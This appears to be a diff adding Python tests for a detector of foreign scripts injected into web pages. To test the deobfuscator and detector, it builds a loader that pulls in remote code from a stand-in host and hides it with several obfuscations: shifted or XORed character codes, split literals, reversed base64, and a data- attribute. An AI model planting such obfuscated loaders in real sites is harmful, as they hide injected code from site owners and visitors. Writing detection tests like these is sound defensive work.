@@ -1,0 +1,90 @@
+"""Deobfuscation: addresses an inline script builds at run time are read without running it, and
+the loader is strong evidence on a site that never had it, whatever the transformation's key."""
+
+from __future__ import annotations
+
+import base64
+import json
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tamperwatch.detect.deobfuscate import decoded_texts, has_address
+from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
+
+from .synthetic import news_page, page
+from .test_foreign_injection import trusted_part
+
+ADDRESS = "https://lib.quartz-relay.example/boot.js"
+LOADER = f"var e=document.createElement('script');e.src='{ADDRESS}';document.head.appendChild(e);"
+
+
+def shifted(text: str, shift: int) -> str:
+    codes = ",".join(str(ord(ch) + shift) for ch in text)
+    return f"eval([{codes}].map(function(n){{return String.fromCharCode(n-{shift})}}).join(''))"
+
+
+def xored(text: str, key: int) -> str:
+    codes = ",".join(str(ord(ch) ^ key) for ch in text)
+    return f"eval([{codes}].map(function(n){{return String.fromCharCode(n^{key})}}).join(''))"
+
+
+def split(text: str, every: int) -> str:
+    pieces = "+".join(json.dumps(text[i : i + every]) for i in range(0, len(text), every))
+    return f"new Function({pieces})()"
+
+
+def backwards_base64(text: str) -> str:
+    blob = base64.b64encode(text.encode()).decode()[::-1]
+    return f"eval(atob('{blob}'.split('').reverse().join('')))"
+
+
+@settings(max_examples=40, deadline=None)
+@given(shift=st.integers(min_value=-20, max_value=20).filter(bool))
+def test_character_codes_shifted_by_any_key_are_read(shift: int) -> None:
+    assert any(ADDRESS in text for text in decoded_texts(shifted(LOADER, shift)))
+
+
+@settings(max_examples=40, deadline=None)
+@given(key=st.integers(min_value=1, max_value=255))
+def test_character_codes_xored_with_any_key_are_read(key: int) -> None:
+    assert any(ADDRESS in text for text in decoded_texts(xored(LOADER, key)))
+
+
+@settings(max_examples=40, deadline=None)
+@given(every=st.integers(min_value=2, max_value=9))
+def test_literals_cut_into_pieces_are_joined(every: int) -> None:
+    assert any(ADDRESS in text for text in decoded_texts(split(LOADER, every)))
+
+
+def test_backwards_base64_and_backwards_text_are_read() -> None:
+    assert any(ADDRESS in text for text in decoded_texts(backwards_base64(LOADER)))
+    backwards = f"var u='{ADDRESS[::-1]}'.split('').reverse().join('')"
+    assert any(ADDRESS in text for text in decoded_texts(backwards))
+
+
+def test_ordinary_code_yields_no_address() -> None:
+    code = "var t=[3,5,8,13,21,34,55,89,144].reduce(function(a,b){return a+b},0);el.textContent='Sum: '+t;"
+    assert not any(has_address(text) for text in decoded_texts(code))
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"<script>{shifted(LOADER, 7)}</script>",
+        f"<script>{xored(LOADER, 42)}</script>",
+        f"<script>{split(LOADER, 5)}</script>",
+        f"<script>{backwards_base64(LOADER)}</script>",
+        (  # the address in a data- attribute, decoded by the script
+            f'<div id="cfg" hidden data-boot="{base64.urlsafe_b64encode(ADDRESS.encode()).decode()}"></div>'
+            "<script>var s=document.createElement('script');"
+            "s.src=atob(document.getElementById('cfg').dataset.boot);document.body.appendChild(s);</script>"
+        ),
+    ],
+)
+def test_a_hidden_loader_on_a_site_that_never_had_one_is_decisive(script: str) -> None:
+    det = ForeignInjectionDetector()
+    [finding] = det.detect(trusted_part(det), page(news_page(9, body_extra=script)))
+    assert finding.score >= 0.5 and "quartz-relay.example" in finding.reason
+    assert "hides" in finding.reason
